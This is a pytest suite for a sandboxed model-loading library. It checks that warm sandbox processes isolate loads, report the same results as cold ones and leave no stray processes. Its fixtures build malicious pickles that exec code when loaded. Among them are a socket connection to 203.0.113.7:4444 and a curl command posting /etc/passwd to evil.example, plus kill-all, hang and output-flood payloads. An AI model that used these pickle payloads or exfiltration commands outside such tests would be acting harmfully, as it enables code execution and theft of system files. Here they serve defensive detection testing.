"""A session opens many models in one warm room, and none of them notices."""

from __future__ import annotations

import pickle
import signal
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import psutil
import pytest
import torch
from safe_load import Session, UsageError, profiles
from safe_load.export.verify import verify
from safe_load.loading import pipeline
from safe_load.sandbox.backends.interface import Bind, Job
from safe_load.sandbox.backends.native.warm import WarmBackend
from safe_load.sandbox.backends.request import WarmSpec

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from safe_load.core.report import Report

_SPEND = "open('/tmp/canary', 'w').close(); time.sleep(1)"
_LOOK = "subprocess.run(['seen' if os.path.exists('/tmp/canary') else 'not seen'])"
_REACH = """
try:
    socket.create_connection(("203.0.113.7", 4444), timeout=1).send(b"hello")
except OSError:
    pass
subprocess.run(["curl", "-d", "@/etc/passwd", "http://evil.example/"])
"""
_RANDOM = """
import random, numpy, torch
subprocess.run(["random", *map(repr, (random.random(), numpy.random.random(), torch.rand(1).item()))])
"""
_HANG = "time.sleep(1000)"
_KILL = "os.kill(-1, 9)"
_FLOOD = "while True: os.write(1, b'x' * 65536)"
_FLOOD_RESULT = """
for descriptor in range(3, 64):
    try:
        for _ in range(80): os.write(descriptor, b"x" * (1 << 20))
    except OSError:
        pass
"""


class _Runs:
    def __init__(self, code: str) -> None:
        self.code = f"import os, socket, subprocess, time\n{code}"

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.code,)


@pytest.fixture
def hostile(tmp_path: Path) -> Any:
    """hostile(name, code): a pickle that runs the code when it is loaded."""

    def make(name: str, code: str) -> Path:
        path = tmp_path / f"{name}.bin"
        path.write_bytes(pickle.dumps({"weight": _Runs(code)}))
        return path

    return make


@pytest.fixture
def honest(tmp_path: Path) -> Path:
    path = tmp_path / "honest.pt"
    torch.save({"a": torch.arange(12.0).reshape(3, 4), "b": torch.ones(5)}, path)
    return path


@pytest.fixture(scope="module")
def session(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    """With rooms that have imported torch: on a busy machine that alone takes longer than the time limit."""
    first = tmp_path_factory.mktemp("first") / "first.pt"
    torch.save({"a": torch.ones(2)}, first)
    with Session(jobs=4, timeout=10.0) as session:
        for _ in range(10):
            if session.report(first).outcome == "ok":
                break
        yield session


def _told(report: Report) -> dict[str, Any]:
    """What must not depend on the room: all but times, addresses of memory and the like."""
    return {
        "outcome": (report.outcome, report.verdict),
        "findings": sorted((found.id, found.severity) for found in report.findings),
        "egress": sorted({(said.address, said.port, said.domain) for said in report.egress}),
        "argv": _argv(report),
        "files": report.files,
        "tensors": report.tensors,
        "walls": sorted(wall.name for wall in report.sandbox.walls),
    }


def _argv(report: Report) -> list[list[str]]:
    return [event.args["argv"] for event in report.recording.events if event.syscall == "execve"]


def test_what_is_told_is_the_same_as_of_a_cold_room(
    session: Session, honest: Path, hostile: Any, tmp_path: Path
) -> None:
    broken = tmp_path / "broken.bin"
    broken.write_bytes(b"PK\x03\x04 and no more")
    bad = hostile("bad", _REACH)
    with ThreadPoolExecutor() as pool:
        cold = list(pool.map(pipeline.scan, map(str, (honest, bad, broken))))
    warm = [session.report(path) for path in (honest, bad, broken)]
    assert [report.outcome for report in warm] == ["ok", "rejected", "not_loadable"]
    assert _told(warm[0]) == _told(cold[0])
    assert _told(warm[1]) == _told(cold[1])
    assert _told(warm[2]) == _told(cold[2])
    assert ["curl", "-d", "@/etc/passwd", "http://evil.example/"] in _argv(warm[1])
    assert ("203.0.113.7", 4444) in {(said.address, said.port) for said in warm[1].egress}


def test_a_warm_room_exports_the_bytes_that_a_cold_one_does(
    session: Session, honest: Path, tmp_path: Path
) -> None:
    pipeline.load(str(honest), tmp_path / "cold")
    session.load(honest, tmp_path / "warm")
    cold, warm = (sorted((tmp_path / name).glob("*.safetensors")) for name in ("cold", "warm"))
    assert [path.name for path in cold] == [path.name for path in warm] != []
    assert [path.read_bytes() for path in cold] == [path.read_bytes() for path in warm]
    verify(tmp_path / "warm")


def test_files_that_only_root_may_read_are_opened_warm_too(session: Session, honest: Path) -> None:
    honest.chmod(0o600)
    session.report(honest)
    assert isinstance(session._backend, WarmBackend)
    rooms = dict(session._backend._rooms)
    assert rooms
    assert session.report(honest).outcome == "ok"
    assert session._backend._rooms == rooms  # no other was made for it


def test_what_one_load_writes_no_other_sees(session: Session, hostile: Any) -> None:
    spend, look = hostile("spend", _SPEND), hostile("look", _LOOK)
    session.report(spend)
    assert {*map(tuple, _argv(session.report(look)))} == {("not seen",)}
    with ThreadPoolExecutor() as pool:  # while the first one sleeps
        spending = pool.submit(session.report, spend)
        seen = [*_argv(session.report(look)), *_argv(session.report(look))]
        assert not spending.done()
    assert {*map(tuple, seen)} == {("not seen",)}


def test_no_two_loads_get_the_same_random_numbers(session: Session, hostile: Any) -> None:
    path = hostile("random", _RANDOM)
    first, second = (
        {number for argv in _argv(session.report(path)) for number in argv[1:]} for _ in range(2)
    )
    assert len(first) >= 3
    assert not first & second


def test_a_load_that_kills_hangs_or_floods_disturbs_no_other(
    session: Session, honest: Path, hostile: Any
) -> None:
    session.report(honest)
    rooms = _children(psutil.Process())
    programs = {"hang": _HANG, "kill": _KILL, "flood": _FLOOD, "result": _FLOOD_RESULT}
    bad = [hostile(name, code) for name, code in programs.items()]
    paths = [path for program in bad for path in (program, honest, honest)]
    reports = [result.report for result in session.scan_all(paths)]
    assert [reports[i].outcome for i, path in enumerate(paths) if path == honest] == ["ok"] * 8
    assert all(reports[i].outcome != "ok" for i, path in enumerate(paths) if path != honest)
    assert _children(psutil.Process()) == rooms  # the same as before, and nothing else


def test_several_models_are_cleared_at_once_and_what_is_rejected_keeps_none_of_the_others(
    session: Session, honest: Path, hostile: Any, tmp_path: Path
) -> None:
    sources = [honest, hostile("spend", _SPEND), honest]
    pairs = [(source, tmp_path / f"out{number}") for number, source in enumerate(sources)]
    told: list[str] = []
    results = list(session.load_all(pairs, lambda source, one: told.append(one.report.outcome)))
    assert [result.report.outcome for result in results] == ["ok", "rejected", "ok"]
    assert [(result.ok, result.path) for result in results] == [
        (True, pairs[0][1]),
        (False, None),
        (True, pairs[2][1]),
    ]
    assert sorted(told) == ["ok", "ok", "rejected"]
    assert [target.exists() for _, target in pairs] == [True, False, True]
    assert verify(tmp_path / "out2").ok


def test_each_step_is_told_to_whoever_asks(session: Session, honest: Path, tmp_path: Path) -> None:
    seen: list[tuple[str, str]] = []
    session.scan(honest, progress=lambda step: seen.append((step.stage, step.state)))
    assert {stage for stage, _ in seen} == {"inventory", "extract", "detonate", "compare"}
    session.load(
        honest, tmp_path / "out", progress=lambda step: seen.append((step.stage, step.state))
    )
    for stage in ("inventory", "extract", "detonate", "compare"):
        assert seen.count((stage, "start")) == seen.count((stage, "end")) == 2
    assert seen.count(("export", "end")) == 1


def _children(process: psutil.Process) -> set[int]:
    return {child.pid for child in process.children(recursive=True)}


_SCRIPT = """
import sys
from safe_load import Session
with Session(jobs=2) as session:
    session.report(sys.argv[1])
    print("ready", flush=True)
    list(session.scan_all(sys.argv[1:]))
"""


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGINT])
def test_a_controller_that_ends_leaves_no_process(
    number: signal.Signals, honest: Path, hostile: Any
) -> None:
    hang = hostile("hang", _HANG)
    command = [sys.executable, "-c", _SCRIPT, str(honest), str(hang), str(hang)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"ready\n"
        time.sleep(0.5)  # both hang by now
        below = psutil.Process(process.pid).children(recursive=True)
        assert len(below) > 4
        process.send_signal(number)
        process.wait(5)
    _, alive = psutil.wait_procs(below, timeout=5)
    assert alive == []


# The rest needs no model, and a room with little in it.
_MODULES = {
    "small": "def main(argument, outputs): return {'said': argument['say']}",
    "threaded": """
import threading, time
threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
def main(argument, outputs): return {}
""",
}


@pytest.fixture
def warm(tmp_path: Path) -> Any:
    """warm(module, idle_s): a warm room for one of _MODULES, and a job for it."""

    def make(name: str, idle_s: float = 60.0) -> tuple[WarmBackend, Job]:
        path = tmp_path / f"{name}.py"
        path.write_text(_MODULES[name])
        entry = f"{name}:main"
        warm_spec = WarmSpec((entry,), (), (), modules=(path,))
        backend = WarmBackend(profiles.load("strict"), warm_spec, idle_s=idle_s)
        return backend, Job("job", entry, {"say": "hello"}, modules=(path,))

    return make


def test_a_room_in_which_an_import_left_a_thread_is_not_forked(warm: Any) -> None:
    backend, job = warm("threaded")
    with backend:
        result = backend.run(job)
    assert result.status == "broken"
    assert "1 threads running" in result.reason


def test_an_idle_room_ends_by_itself_and_the_next_job_makes_a_new_one(warm: Any) -> None:
    backend, job = warm("small", idle_s=0.3)
    others = _children(psutil.Process())
    with backend:
        for _ in range(2):
            assert backend.run(job).value == {"said": "hello"}
            room = [child for child in psutil.Process().children() if child.pid not in others]
            assert len(room) == 1
            _, alive = psutil.wait_procs(room, timeout=5)
            assert alive == []
            assert _children(psutil.Process()) == others


def test_a_job_that_meets_a_room_just_ending_gets_a_new_one(warm: Any) -> None:
    backend, job = warm("small", idle_s=0.02)
    with backend:
        for pause in range(12):
            time.sleep(0.015 + pause / 1000)
            assert backend.run(replace(job, argument={"say": pause})).value == {"said": pause}


@pytest.mark.parametrize("mode", [0o644, 0o600])
def test_a_room_that_is_made_ahead_is_the_one_that_the_job_gets(
    warm: Any, tmp_path: Path, mode: int
) -> None:
    file = tmp_path / "model.bin"
    file.write_bytes(b"x")
    file.chmod(mode)
    backend, job = warm("small")
    job = replace(job, files=(Bind(file, "/model/model.bin"),))
    with backend:
        before = _children(psutil.Process())
        backend.warm_up([file])
        backend.warm_up([file])
        made = _children(psutil.Process())
        assert made > before
        assert backend.run(job).value == {"said": "hello"}
        assert _children(psutil.Process()) == made
    assert _children(psutil.Process()) == before


def test_a_room_that_is_made_ahead_is_ended_with_all_others(warm: Any) -> None:
    backend, _ = warm("small")
    before = _children(psutil.Process())
    with backend, ThreadPoolExecutor(1) as pool:
        ahead = pool.submit(backend.warm_up)
        time.sleep(0.05)
        backend.stop()
        assert ahead.exception(timeout=30) is None or isinstance(ahead.exception(), OSError)
    assert _children(psutil.Process()) == before


def test_options_that_are_wrong_are_refused_before_a_room_is_made() -> None:
    with pytest.raises(UsageError, match="none of ours"):
        Session(profile="none of ours")
    with pytest.raises(UsageError, match="at least 1"):
        Session(jobs=0)
